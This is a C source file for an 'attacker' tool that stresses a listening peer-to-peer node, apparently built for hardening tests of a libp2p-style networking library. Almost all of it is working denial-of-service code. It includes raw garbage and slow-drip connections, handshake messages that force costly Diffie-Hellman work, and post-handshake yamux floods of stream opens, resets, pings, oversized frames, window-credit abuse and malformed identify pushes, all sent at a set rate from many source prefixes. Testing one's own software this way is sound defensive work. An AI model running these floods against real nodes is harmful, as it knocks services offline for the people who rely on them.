/*
 * The attacker: does to a listening node what no honest peer does, at a stated rate, from as many
 * source addresses as wished.
 *
 * In: MODE HOST PORT [--from A.B.0.0 --prefixes N] [--rate R] [--open N] [--seconds S]. Links are
 * opened R a second (0: as fast as possible) while fewer than N are open, from N /24s of the /16
 * given. A mode is either raw (its links never get behind the handshake) or secured (the handshake
 * is honest, by the library's own Noise; then the assault's plaintext flows as fast as it is
 * taken).
 * Out: one JSON line that sums up; exit 0 when at least one link was made.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/random.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "base/check.h"
#include "base/list.h"
#include "base/mem.h"
#include "base/random.h"
#include "crypto/noise.h"
#include "mux/yamux_msg.h"

#define SECOND UINT64_C(1000000000)
#define IDENTITIES 64 /* peers that the attacker pretends to be */
#define SELECT_TEXT "\x13/multistream/1.0.0\n\x07/noise\n"
#define SELECT_SIZE (sizeof SELECT_TEXT - 1)
#define PERF_TEXT "\x13/multistream/1.0.0\n\x0c/perf/1.0.0\n"
#define PUSH_TEXT "\x13/multistream/1.0.0\n\x14/ipfs/id/push/1.0.0\n"
#define BODY_MAX 16384 /* plaintext of one assault frame */
#define FRAME_MAX (NOISE_HEAD_SIZE + BODY_MAX + AEAD_TAG_SIZE)
#define LINK_NS_MAX (2 * SECOND) /* a link whose attack is done is given up after it */
#define HOARD_STREAMS 256

enum stage { STAGE_FREE, STAGE_CONNECTING, STAGE_SELECTING, STAGE_SHAKING, STAGE_DONE };

struct attacker;
struct link;

/* One way to attack. Raw: `begin` acts on a link that is connected. Secured: `fill` writes the next
 * plaintext, at most BODY_MAX bytes, and returns how much; 0: nothing more. */
struct mode {
    const char *name;
    void (*begin)(struct attacker *a, struct link *l);
    size_t enough; /* raw: bytes of the node's after which the link is given up; 0: never */
    size_t (*fill)(struct attacker *a, struct link *l, uint8_t *body);
    bool is_patient; /* links are held open, not given up */
    bool is_deaf;    /* secured: what the node sends is never read */
};

struct link {
    struct list free;
    int fd;
    enum stage stage;
    uint64_t since_ns;
    size_t heard;    /* raw: bytes that the node sent */
    size_t selected; /* bytes of the node's answer to SELECT_TEXT seen */
    size_t dripped;
    struct noise *noise;
    struct noise_channel channel;
    uint32_t stream; /* next id to open */
    uint32_t step;
    uint8_t *frame; /* sealed; NULL while nothing is under way */
    size_t frame_len;
    size_t frame_at;
    bool is_spent; /* `fill` has no more */
};

struct attacker {
    const struct mode *mode;
    struct sockaddr_in target;
    uint32_t from; /* host order; 0: the system picks */
    uint32_t prefixes;
    double rate;
    size_t open_max;
    double seconds;
    int epoll;
    struct link *links;
    struct list free;
    struct random random;
    struct aead *aead;
    struct noise_identity identities[IDENTITIES];
    uint64_t begun_ns;
    size_t open;
    size_t open_peak;
    uint64_t tried;
    uint64_t connected;
    uint64_t failed;  /* never connected */
    uint64_t secured; /* handshakes done */
    uint64_t dropped; /* ended by the node */
    uint64_t sent;    /* bytes of assault */
};

static void fill_random(void *context, uint8_t *out, size_t len)
{
    (void)context;
    for (size_t at = 0; at < len;) {
        size_t piece = len - at < 256 ? len - at : 256;
        CHECK(getrandom(out + at, piece, 0) == (ssize_t)piece);
        at += piece;
    }
}

static uint64_t now_ns(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * SECOND + (uint64_t)t.tv_nsec;
}

/* ---- Links ---- */

static void link_watch(struct attacker *a, struct link *l, uint32_t events)
{
    struct epoll_event event = {.events = events, .data.ptr = l};
    CHECK(epoll_ctl(a->epoll, EPOLL_CTL_MOD, l->fd, &event) == 0);
}

/* Reset the connection: a port is free again at once. */
static void link_close(struct attacker *a, struct link *l)
{
    struct linger now = {.l_onoff = 1, .l_linger = 0};
    (void)setsockopt(l->fd, SOL_SOCKET, SO_LINGER, &now, sizeof now);
    (void)close(l->fd);
    noise_free(l->noise);
    mem_free(l->frame);
    *l = (struct link){.fd = -1, .stage = STAGE_FREE};
    list_push_back(&a->free, &l->free);
    a->open--;
}

static void link_dropped(struct attacker *a, struct link *l)
{
    if (l->stage == STAGE_CONNECTING) {
        a->failed++;
    } else {
        a->dropped++;
    }
    link_close(a, l);
}

/* The next source: another /24 each time, then another host in it. */
static void link_bind(const struct attacker *a, int fd)
{
    int on = 1;
    uint64_t k = a->tried;
    uint32_t host = (uint32_t)(1 + k / a->prefixes % 250);
    uint32_t ip = a->from + ((uint32_t)(k % a->prefixes) << 8) + host;
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(ip)};
    (void)setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
    if (bind(fd, (struct sockaddr *)&address, sizeof address) < 0) {
        perror("binding a source address");
        exit(1);
    }
}

static bool link_open(struct attacker *a)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    int on = 1;
    if (fd < 0) {
        return false;
    }
    (void)setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    if (a->from != 0) {
        link_bind(a, fd);
    }
    a->tried++;
    if (connect(fd, (struct sockaddr *)&a->target, sizeof a->target) < 0 && errno != EINPROGRESS) {
        a->failed++;
        (void)close(fd);
        return false;
    }
    struct list *node = list_pop_front(&a->free);
    struct link *l = LIST_OF(node, struct link, free);
    *l = (struct link){.fd = fd, .stage = STAGE_CONNECTING, .since_ns = now_ns(), .stream = 1};
    a->open++;
    a->open_peak = a->open > a->open_peak ? a->open : a->open_peak;
    struct epoll_event event = {.events = EPOLLOUT, .data.ptr = l};
    CHECK(epoll_ctl(a->epoll, EPOLL_CTL_ADD, fd, &event) == 0);
    return true;
}

/* Small pieces into an empty socket buffer: taken whole, or the link is broken. */
static bool link_send(struct attacker *a, struct link *l, const void *data, size_t len)
{
    if (send(l->fd, data, len, MSG_NOSIGNAL) != (ssize_t)len) {
        link_dropped(a, l);
        return false;
    }
    a->sent += len;
    return true;
}

/* ---- The honest handshake ---- */

static void shake_start(struct attacker *a, struct link *l)
{
    static const char *const muxers[] = {"/yamux/1.0.0", NULL};
    struct noise_config config = {
        .role = NOISE_INITIATOR,
        .identity = &a->identities[a->tried % IDENTITIES],
        .muxers = muxers,
    };
    uint8_t hello[SELECT_SIZE + 128];
    l->noise = noise_new(&config);
    CHECK(noise_work(l->noise, a->aead, &a->random) == 0);
    memcpy(hello, SELECT_TEXT, SELECT_SIZE);
    size_t len = noise_pull(l->noise, span_mut_of(hello + SELECT_SIZE, 128));
    l->stage = STAGE_SELECTING;
    link_send(a, l, hello, SELECT_SIZE + len);
}

static void assault_pump(struct attacker *a, struct link *l);

static void shake_done(struct attacker *a, struct link *l)
{
    struct noise_result result;
    memset(&result, 0, sizeof result);
    noise_finish(l->noise, &result);
    noise_free(l->noise);
    l->noise = NULL;
    l->channel = result.channel;
    l->stage = STAGE_DONE;
    a->secured++;
    link_watch(a, l, (a->mode->is_deaf ? 0 : (uint32_t)EPOLLIN) | EPOLLOUT);
    assault_pump(a, l);
}

static void shake_feed(struct attacker *a, struct link *l, struct span in)
{
    size_t skip = SELECT_SIZE - l->selected < in.len ? SELECT_SIZE - l->selected : in.len;
    l->selected += skip;
    in = span_slice(in, skip, in.len);
    size_t used = 0;
    if (noise_feed(l->noise, in, &used) < 0) {
        link_dropped(a, l);
        return;
    }
    while (noise_wants_work(l->noise)) {
        if (noise_work(l->noise, a->aead, &a->random) < 0) {
            link_dropped(a, l);
            return;
        }
    }
    uint8_t out[1024];
    size_t len = noise_pull(l->noise, span_mut_of(out, sizeof out));
    if (len > 0 && !link_send(a, l, out, len)) {
        return;
    }
    if (noise_is_done(l->noise)) {
        shake_done(a, l);
    }
}

/* ---- Raw attacks ---- */

static void begin_garbage(struct attacker *a, struct link *l)
{
    uint8_t junk[4096];
    random_fill(&a->random, junk, sizeof junk);
    link_send(a, l, junk, sizeof junk);
}

static void begin_silent(struct attacker *a, struct link *l)
{
    (void)a;
    (void)l;
}

static void begin_reconnect(struct attacker *a, struct link *l)
{
    link_close(a, l);
}

/* A first message that costs the node two Diffie-Hellmans and the attacker nothing. */
static void begin_halves(struct attacker *a, struct link *l)
{
    uint8_t hello[SELECT_SIZE + 34];
    memcpy(hello, SELECT_TEXT, SELECT_SIZE);
    hello[SELECT_SIZE] = 0;
    hello[SELECT_SIZE + 1] = 32;
    random_fill(&a->random, hello + SELECT_SIZE + 2, 32);
    link_send(a, l, hello, sizeof hello);
}

/* One byte a second of a beginning that is in order. */
static void drip(struct attacker *a)
{
    for (size_t i = 0; i < a->open_max; i++) {
        struct link *l = &a->links[i];
        if (l->stage == STAGE_DONE && l->dripped < SELECT_SIZE) {
            link_send(a, l, SELECT_TEXT + l->dripped++, 1);
        }
    }
}

/* ---- Assaults behind the handshake ---- */

static size_t put(uint8_t *body, size_t at, struct yamux_msg msg)
{
    yamux_msg_encode(&msg, body + at);
    return at + YAMUX_MSG_SIZE;
}

static size_t put_opening(struct link *l, uint8_t *body, size_t at, const char *text, size_t len)
{
    at = put(body, at,
             (struct yamux_msg){.type = YAMUX_MSG_DATA,
                                .flags = YAMUX_MSG_SYN,
                                .stream = l->stream,
                                .length = (uint32_t)len});
    memcpy(body + at, text, len);
    return at + len;
}

static size_t fill_opens(struct attacker *a, struct link *l, uint8_t *body)
{
    (void)a;
    size_t at = 0;
    for (; at + YAMUX_MSG_SIZE <= BODY_MAX; l->stream += 2) {
        at = put(body, at,
                 (struct yamux_msg){
                     .type = YAMUX_MSG_WINDOW, .flags = YAMUX_MSG_SYN, .stream = l->stream});
    }
    return at;
}

static size_t fill_churn(struct attacker *a, struct link *l, uint8_t *body)
{
    (void)a;
    size_t at = 0;
    for (; at + 2 * YAMUX_MSG_SIZE <= BODY_MAX; l->stream += 2) {
        at = put(body, at,
                 (struct yamux_msg){
                     .type = YAMUX_MSG_WINDOW, .flags = YAMUX_MSG_SYN, .stream = l->stream});
        at = put(body, at,
                 (struct yamux_msg){
                     .type = YAMUX_MSG_WINDOW, .flags = YAMUX_MSG_RST, .stream = l->stream});
    }
    return at;
}

static size_t fill_pings(struct attacker *a, struct link *l, uint8_t *body)
{
    (void)a;
    size_t at = 0;
    for (; at + YAMUX_MSG_SIZE <= BODY_MAX; l->step++) {
        at = put(
            body, at,
            (struct yamux_msg){.type = YAMUX_MSG_PING, .flags = YAMUX_MSG_SYN, .length = l->step});
    }
    return at;
}

/* One stream of perf, then one data frame of `length` bytes. */
static size_t fill_data_of(struct link *l, uint8_t *body, uint32_t length)
{
    size_t at = 0;
    if (l->step++ > 0) {
        memset(body, 0, BODY_MAX);
        return BODY_MAX;
    }
    at = put_opening(l, body, at, PERF_TEXT, sizeof PERF_TEXT - 1);
    return put(body, at,
               (struct yamux_msg){.type = YAMUX_MSG_DATA, .stream = l->stream, .length = length});
}

static size_t fill_past(struct attacker *a, struct link *l, uint8_t *body)
{
    (void)a;
    return fill_data_of(l, body, 256 * 1024 + 1);
}

static size_t fill_giant(struct attacker *a, struct link *l, uint8_t *body)
{
    (void)a;
    return fill_data_of(l, body, UINT32_MAX);
}

static size_t fill_credits(struct attacker *a, struct link *l, uint8_t *body)
{
    (void)a;
    size_t at = put_opening(l, body, 0, PERF_TEXT, sizeof PERF_TEXT - 1);
    return put(
        body, at,
        (struct yamux_msg){.type = YAMUX_MSG_WINDOW, .stream = l->stream, .length = UINT32_MAX});
}

/* Ask perf for a gigabyte in each of many streams, with all the credit that there is. */
static size_t fill_hoard(struct attacker *a, struct link *l, uint8_t *body)
{
    static const uint8_t gigabyte[8] = {0, 0, 0, 0, 0x40, 0, 0, 0};
    (void)a;
    size_t at = 0;
    for (int i = 0; i < 64 && l->step < HOARD_STREAMS; i++, l->step++, l->stream += 2) {
        at = put_opening(l, body, at, PERF_TEXT, sizeof PERF_TEXT - 1);
        at = put(body, at,
                 (struct yamux_msg){
                     .type = YAMUX_MSG_DATA, .stream = l->stream, .length = sizeof gigabyte});
        memcpy(body + at, gigabyte, sizeof gigabyte);
        at += sizeof gigabyte;
        at = put(body, at,
                 (struct yamux_msg){.type = YAMUX_MSG_WINDOW,
                                    .flags = YAMUX_MSG_FIN,
                                    .stream = l->stream,
                                    .length = 1u << 30});
    }
    return at;
}

/* Pushes of identify that hold no message. */
static size_t fill_pushes(struct attacker *a, struct link *l, uint8_t *body)
{
    size_t at = 0;
    for (; at + 512 <= BODY_MAX; l->stream += 2) {
        at = put_opening(l, body, at, PUSH_TEXT, sizeof PUSH_TEXT - 1);
        at = put(body, at,
                 (struct yamux_msg){.type = YAMUX_MSG_DATA,
                                    .flags = YAMUX_MSG_FIN,
                                    .stream = l->stream,
                                    .length = 256});
        random_fill(&a->random, body + at, 256);
        body[at] = 0xff; /* a length of 127 bytes that holds no fields */
        body[at + 1] = 0x01;
        at += 256;
    }
    return at;
}

/* One frame that is none: no tag fits. */
static size_t fill_tagless(struct attacker *a, struct link *l, uint8_t *body)
{
    if (l->step++ > 0) {
        return 0;
    }
    random_fill(&a->random, body, 1024);
    random_fill(&a->random, l->channel.send.key, sizeof l->channel.send.key);
    return 1024;
}

static const struct mode modes[] = {
    {.name = "garbage", .begin = begin_garbage},
    {.name = "silent", .begin = begin_silent, .is_patient = true},
    {.name = "drip", .begin = begin_silent, .is_patient = true},
    {.name = "halves", .begin = begin_halves, .enough = SELECT_SIZE + 2 + 96},
    {.name = "reconnect", .begin = begin_reconnect},
    {.name = "tagless", .fill = fill_tagless},
    {.name = "opens", .fill = fill_opens},
    {.name = "churn", .fill = fill_churn},
    {.name = "pings", .fill = fill_pings},
    {.name = "past", .fill = fill_past},
    {.name = "giant", .fill = fill_giant},
    {.name = "credits", .fill = fill_credits},
    {.name = "pushes", .fill = fill_pushes},
    {.name = "hoard", .fill = fill_hoard, .is_patient = true, .is_deaf = true},
};

/* Seal the next plaintext; false when there is none. */
static bool assault_seal(struct attacker *a, struct link *l)
{
    if (l->is_spent) {
        return false;
    }
    if (l->frame == NULL) {
        l->frame = mem_new(FRAME_MAX);
    }
    size_t len = a->mode->fill(a, l, l->frame + NOISE_HEAD_SIZE);
    if (len == 0) {
        l->is_spent = true;
        link_watch(a, l, a->mode->is_deaf ? 0 : (uint32_t)EPOLLIN);
        return false;
    }
    CHECK(noise_seal(&l->channel, a->aead, span_mut_of(l->frame + NOISE_HEAD_SIZE, len)) == 0);
    l->frame_len = NOISE_HEAD_SIZE + len + AEAD_TAG_SIZE;
    l->frame_at = 0;
    return true;
}

/* Send until the kernel takes no more, at most a few frames, so that other links live too. */
static void assault_pump(struct attacker *a, struct link *l)
{
    for (int i = 0; i < 8; i++) {
        if (l->frame_at == l->frame_len && !assault_seal(a, l)) {
            return;
        }
        ssize_t sent =
            send(l->fd, l->frame + l->frame_at, l->frame_len - l->frame_at, MSG_NOSIGNAL);
        if (sent < 0 && errno == EAGAIN) {
            return;
        }
        if (sent < 0) {
            link_dropped(a, l);
            return;
        }
        a->sent += (uint64_t)sent;
        l->frame_at += (size_t)sent;
    }
}

/* ---- Events ---- */

static void on_connected(struct attacker *a, struct link *l)
{
    int err = 0;
    socklen_t len = sizeof err;
    (void)getsockopt(l->fd, SOL_SOCKET, SO_ERROR, &err, &len);
    if (err != 0) {
        link_dropped(a, l);
        return;
    }
    a->connected++;
    link_watch(a, l, EPOLLIN);
    if (a->mode->begin != NULL) {
        l->stage = STAGE_DONE;
        a->mode->begin(a, l);
    } else {
        shake_start(a, l);
    }
}

static void on_readable(struct attacker *a, struct link *l)
{
    static uint8_t buffer[65536];
    ssize_t len = recv(l->fd, buffer, sizeof buffer, 0);
    if (len == 0 || (len < 0 && errno != EAGAIN)) {
        link_dropped(a, l);
    } else if (len > 0 && l->stage == STAGE_SELECTING) {
        shake_feed(a, l, span_of(buffer, (size_t)len));
    } else if (len > 0 && a->mode->enough > 0) {
        l->heard += (size_t)len;
        if (l->heard >= a->mode->enough) {
            link_close(a, l); /* the work is done: room for the next */
        }
    }
}

static void on_event(struct attacker *a, const struct epoll_event *event)
{
    struct link *l = event->data.ptr;
    if (l->stage == STAGE_FREE) {
        return;
    }
    if (l->stage == STAGE_CONNECTING) {
        on_connected(a, l);
        return;
    }
    if ((event->events & (EPOLLERR | EPOLLHUP)) != 0 && a->mode->is_deaf) {
        link_dropped(a, l);
        return;
    }
    if ((event->events & EPOLLOUT) != 0 && l->stage == STAGE_DONE) {
        assault_pump(a, l);
    }
    if (l->stage != STAGE_FREE && (event->events & (EPOLLIN | EPOLLERR | EPOLLHUP)) != 0) {
        on_readable(a, l);
    }
}

/* Open what is due by the rate, as far as there is room. */
static void open_due(struct attacker *a, uint64_t now)
{
    double due = a->rate > 0 ? a->rate * (double)(now - a->begun_ns) / (double)SECOND : 1e18;
    for (int i = 0; i < 256 && a->open < a->open_max && (double)a->tried < due; i++) {
        if (!link_open(a)) {
            return;
        }
    }
}

/* Links whose attack is done, and connections that never come about, are given up. */
static void sweep(struct attacker *a, uint64_t now)
{
    for (size_t i = 0; i < a->open_max; i++) {
        struct link *l = &a->links[i];
        bool is_waiting = a->mode->is_patient && l->stage == STAGE_DONE;
        bool is_assault = a->mode->fill != NULL && l->stage == STAGE_DONE && !l->is_spent;
        if (l->stage != STAGE_FREE && !is_waiting && !is_assault &&
            now - l->since_ns > LINK_NS_MAX) {
            link_close(a, l);
        }
    }
}

static void attack(struct attacker *a)
{
    struct epoll_event events[256];
    uint64_t end = a->begun_ns + (uint64_t)(a->seconds * (double)SECOND);
    uint64_t next = a->begun_ns + SECOND;
    for (uint64_t now = a->begun_ns; now < end; now = now_ns()) {
        open_due(a, now);
        int count = epoll_wait(a->epoll, events, 256, 1);
        for (int i = 0; i < count; i++) {
            on_event(a, &events[i]);
        }
        if (now >= next) {
            next += SECOND;
            sweep(a, now);
            if (strcmp(a->mode->name, "drip") == 0) {
                drip(a);
            }
        }
    }
}

/* ---- Beginning and end ---- */

static void usage(void)
{
    fprintf(stderr, "usage: attack_attacker_tool MODE HOST PORT [--from A.B.0.0 --prefixes N] "
                    "[--rate R] [--open N] [--seconds S]\n");
    exit(2);
}

static void read_option(struct attacker *a, const char *name, const char *value)
{
    struct in_addr from;
    if (strcmp(name, "--from") == 0 && inet_pton(AF_INET, value, &from) == 1) {
        a->from = ntohl(from.s_addr);
    } else if (strcmp(name, "--prefixes") == 0) {
        a->prefixes = (uint32_t)strtoul(value, NULL, 10);
    } else if (strcmp(name, "--rate") == 0) {
        a->rate = strtod(value, NULL);
    } else if (strcmp(name, "--open") == 0) {
        a->open_max = strtoul(value, NULL, 10);
    } else if (strcmp(name, "--seconds") == 0) {
        a->seconds = strtod(value, NULL);
    } else {
        usage();
    }
}

static void read_arguments(struct attacker *a, int argc, char **argv)
{
    if (argc < 4 || argc % 2 != 0) {
        usage();
    }
    for (size_t i = 0; i < sizeof modes / sizeof modes[0]; i++) {
        a->mode = strcmp(modes[i].name, argv[1]) == 0 ? &modes[i] : a->mode;
    }
    a->target.sin_family = AF_INET;
    a->target.sin_port = htons((uint16_t)strtoul(argv[3], NULL, 10));
    if (a->mode == NULL || inet_pton(AF_INET, argv[2], &a->target.sin_addr) != 1) {
        usage();
    }
    a->prefixes = 1;
    a->seconds = 2;
    a->open_max = a->mode->fill != NULL ? 1 : 1000;
    for (int i = 4; i + 1 < argc; i += 2) {
        read_option(a, argv[i], argv[i + 1]);
    }
    if (a->prefixes == 0 || a->prefixes > 256 || a->open_max == 0) {
        usage();
    }
}

static void prepare(struct attacker *a)
{
    struct rlimit files;
    if (getrlimit(RLIMIT_NOFILE, &files) == 0) {
        files.rlim_cur = files.rlim_max;
        (void)setrlimit(RLIMIT_NOFILE, &files);
    }
    a->random.fill = fill_random;
    a->aead = aead_new();
    CHECK(a->aead != NULL);
    for (size_t i = 0; i < IDENTITIES && a->mode->fill != NULL; i++) {
        struct ed25519_pair pair;
        ed25519_make(&pair, &a->random);
        noise_identity_make(&a->identities[i], &pair, &a->random);
    }
    list_init(&a->free);
    a->links = mem_new(a->open_max * sizeof *a->links);
    for (size_t i = 0; i < a->open_max; i++) {
        list_push_back(&a->free, &a->links[i].free);
    }
    a->epoll = epoll_create1(EPOLL_CLOEXEC);
    CHECK(a->epoll >= 0);
    a->begun_ns = now_ns();
}

int main(int argc, char **argv)
{
    static struct attacker a;
    read_arguments(&a, argc, argv);
    prepare(&a);
    attack(&a);
    size_t open = a.open;
    for (size_t i = 0; i < a.open_max; i++) {
        if (a.links[i].stage != STAGE_FREE) {
            link_close(&a, &a.links[i]);
        }
    }
    printf("{\"mode\":\"%s\",\"tried\":%llu,\"connected\":%llu,\"failed\":%llu,\"secured\":%llu,"
           "\"dropped\":%llu,\"open\":%zu,\"openPeak\":%zu,\"bytes\":%llu}\n",
           a.mode->name, (unsigned long long)a.tried, (unsigned long long)a.connected,
           (unsigned long long)a.failed, (unsigned long long)a.secured,
           (unsigned long long)a.dropped, open, a.open_peak, (unsigned long long)a.sent);
    mem_free(a.links);
    aead_free(a.aead);
    return a.connected > 0 ? 0 : 1;
}
